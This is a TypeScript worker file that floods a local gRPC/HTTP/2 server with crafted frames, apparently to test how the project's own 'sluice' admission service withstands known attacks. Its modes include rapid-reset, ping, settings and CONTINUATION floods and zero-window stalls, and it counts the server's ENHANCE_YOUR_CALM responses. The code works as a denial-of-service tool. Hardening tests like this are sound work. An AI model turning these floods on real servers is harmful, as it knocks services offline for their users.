import { connect, type Socket } from 'node:net';
import { parentPort, workerData } from 'node:worker_threads';
import { CALM, FLAG, FRAME, frame, HeaderBlocks, message, preface, reset } from './frames.ts';

/** What a worker is started with. */
export interface AttackOrder {
  readonly port: number;
  readonly mode: string;
  /** Connections at once. */
  readonly connections: number;
}

/** What one worker did, sent each 100 ms. */
export interface AttackCount {
  readonly connects: number;
  readonly frames: number;
  readonly bytes: number;
  /** Connections that the server ended, and how many of them by a GOAWAY of ENHANCE_YOUR_CALM. */
  readonly closed: number;
  readonly calm: number;
}

/** Type, flags and stream of a GOAWAY; its code is 10 bytes further. */
const GOAWAY = Buffer.from([FRAME.goaway, 0, 0, 0, 0, 0]);
/** Bytes written at once. */
const BATCH_BYTES = 64 * 1024;
/** Stream ids of one connection end at 2^31. */
const STREAM_MAX = 2 ** 31 - 1;

/** Returns bytes to send next and how many frames they are; undefined: nothing more on this connection. */
type Next = () => { readonly bytes: Buffer; readonly frames: number } | undefined;

interface Attack {
  /** Bytes of its connection's beginning. */
  readonly settings?: readonly (readonly [number, number])[];
  /** Reads what the server sends. */
  readonly reads: boolean;
  /** Closes and connects again once all is sent. */
  readonly again?: boolean;
  next(): Next;
}

const ACQUIRE = '/sluice.v1.AdmissionService/Acquire';
const WATCH = '/sluice.v1.AdmissionService/Watch';
const SESSION = '/sluice.v1.AdmissionService/Session';
const HEALTH = '/grpc.health.v1.Health/Watch';

/** `one` makes the frames of one stream; they are batched until 64 KiB. */
function perStream(path: string, framesEach: number, one: (id: number, block: Buffer) => Buffer, streamsMax = Number.POSITIVE_INFINITY): () => Next {
  return () => {
    const blocks = new HeaderBlocks(path);
    let id = 1;
    let streams = 0;
    return () => {
      if (streams >= streamsMax || id > STREAM_MAX) return undefined;
      const parts: Buffer[] = [];
      let bytes = 0;
      let frames = 0;
      while (bytes < BATCH_BYTES && streams < streamsMax) {
        const part = one(id, blocks.next());
        parts.push(part);
        bytes += part.length;
        frames += framesEach;
        id += 2;
        streams += 1;
      }
      return { bytes: Buffer.concat(parts), frames };
    };
  };
}

/** The same bytes again and again. */
function repeated(one: Buffer, framesEach = 1): () => Next {
  const count = Math.ceil(BATCH_BYTES / one.length);
  const bytes = Buffer.concat(Array.from({ length: count }, () => one));
  return () => () => ({ bytes, frames: count * framesEach });
}

function once(make: () => Buffer, then?: () => Next): () => Next {
  return () => {
    let first: Buffer | undefined = make();
    const more = then?.();
    return () => {
      if (first === undefined) return more?.();
      const bytes = first;
      first = undefined;
      return { bytes, frames: 1 };
    };
  };
}

const headers = (id: number, block: Buffer, flags: number): Buffer => frame(FRAME.headers, flags, id, block);
/** `group: "slots"`, as an AcquireRequest. */
const ASK = Buffer.from([0x0a, 5, ...Buffer.from('slots')]);
/** `group: "open"`. */
const ASK_OPEN = Buffer.from([0x0a, 4, ...Buffer.from('open')]);
/** A WatchRequest that holds {@link ASK}, with an interval of 100 ms. */
const WATCH_ASK = Buffer.from([0x0a, ASK.length, ...ASK, 0x12, 5, 0x10, 0x80, 0xc2, 0xd7, 0x2f]);
/** A SessionRequest `id: "a"` that asks to renew a permit that is not there: answered at once, again and again. */
const SESSION_ASK = Buffer.from([0x0a, 1, 0x61, 0x1a, 0]);

export const ATTACKS: Readonly<Record<string, Attack>> = {
  'open-close': { reads: true, next: perStream(ACQUIRE, 1, (id, block) => headers(id, block, FLAG.endHeaders | FLAG.endStream)) },
  'ask-close': {
    reads: true,
    next: perStream(ACQUIRE, 3, (id, block) => Buffer.concat([headers(id, block, FLAG.endHeaders), message(id, ASK, true), reset(id)])),
  },
  'unknown-path': { reads: true, next: perStream('/no/where', 1, (id, block) => headers(id, block, FLAG.endHeaders | FLAG.endStream)) },
  'rapid-reset': { reads: true, next: perStream(ACQUIRE, 2, (id, block) => Buffer.concat([headers(id, block, FLAG.endHeaders), reset(id)])) },
  'headers-only': { reads: true, next: perStream(ACQUIRE, 1, (id, block) => headers(id, block, FLAG.endHeaders), 100_000) },
  'asks-open': {
    reads: true,
    next: perStream(ACQUIRE, 2, (id, block) => Buffer.concat([headers(id, block, FLAG.endHeaders), message(id, ASK_OPEN, true)])),
  },
  'connect-close': { reads: true, again: true, next: () => () => undefined },
  ping: { reads: true, next: repeated(frame(FRAME.ping, 0, 0, Buffer.alloc(8))) },
  'ping-unread': { reads: false, next: repeated(frame(FRAME.ping, 0, 0, Buffer.alloc(8))) },
  settings: { reads: true, next: repeated(frame(FRAME.settings, 0, 0, Buffer.from([0, 4, 0, 1, 0, 0]))) },
  'settings-empty': { reads: true, next: repeated(frame(FRAME.settings, 0, 0)) },
  priority: { reads: true, next: repeated(frame(FRAME.priority, 0, 1, Buffer.from([0, 0, 0, 0, 16]))) },
  'window-update': { reads: true, next: repeated(frame(FRAME.windowUpdate, 0, 0, Buffer.from([0, 0, 0, 1]))) },
  'unknown-frames': { reads: true, next: repeated(frame(0xf0, 0, 0)) },
  'empty-data': {
    reads: true,
    next: once(() => headers(1, new HeaderBlocks(SESSION).next(), FLAG.endHeaders), repeated(frame(FRAME.data, 0, 1))),
  },
  continuation: {
    reads: true,
    next: once(() => headers(1, new HeaderBlocks(ACQUIRE).next(), 0), repeated(frame(FRAME.continuation, 0, 1, Buffer.from([0x40, 1, 0x61, 1, 0x62])))),
  },
  'half-open': { reads: false, next: () => () => undefined },
  'zero-window-watch': {
    settings: [[4, 0]],
    reads: true,
    next: perStream(WATCH, 2, (id, block) => Buffer.concat([headers(id, block, FLAG.endHeaders), message(id, WATCH_ASK, true)]), 1_000),
  },
  'zero-window-session': {
    settings: [[4, 0]],
    reads: true,
    next: once(() => headers(1, new HeaderBlocks(SESSION).next(), FLAG.endHeaders), repeated(message(1, SESSION_ASK, false))),
  },
  'zero-window-health': {
    settings: [[4, 0]],
    reads: true,
    next: perStream(HEALTH, 2, (id, block) => Buffer.concat([headers(id, block, FLAG.endHeaders), message(id, Buffer.alloc(0), true)]), 1_000),
  },
};

const count = { connects: 0, frames: 0, bytes: 0, closed: 0, calm: 0 };

/** Attacks on one connection until it ends, and then on the next, at most one each millisecond. */
function attack(order: AttackOrder, { settings = [], reads, next, again = false }: Attack): void {
  const socket: Socket = connect(order.port, '127.0.0.1');
  let goaways = Buffer.alloc(0);
  socket.on('error', () => {});
  socket.on('connect', () => {
    count.connects += 1;
    socket.write(preface(settings));
    const more = next();
    const go = (): void => {
      for (;;) {
        const step = socket.writable ? more() : undefined;
        if (step === undefined) {
          if (again) socket.end();
          return;
        }
        count.frames += step.frames;
        count.bytes += step.bytes.length;
        if (!socket.write(step.bytes)) return;
      }
    };
    socket.on('drain', () => setImmediate(go));
    go();
  });
  if (reads) {
    socket.on('data', (bytes: Buffer) => {
      // A GOAWAY's last 8 bytes are the stream and the code; it is the last frame of a connection.
      goaways = Buffer.concat([goaways, bytes.subarray(-64)]).subarray(-128);
    });
  } else socket.pause();
  socket.on('close', () => {
    count.closed += 1;
    const at = goaways.lastIndexOf(GOAWAY);
    if (at >= 0 && goaways.length >= at + 14 && goaways.readUInt32BE(at + 10) === CALM) count.calm += 1;
    setTimeout(() => attack(order, { settings, reads, next, again }), 1);
  });
}

if (parentPort !== null) {
  const order = workerData as AttackOrder;
  const chosen = ATTACKS[order.mode];
  if (chosen === undefined) throw new Error(`no such attack: ${order.mode}`);
  for (let each = 0; each < order.connections; each += 1) attack(order, chosen);
  setInterval(() => parentPort?.postMessage({ ...count }), 100);
}
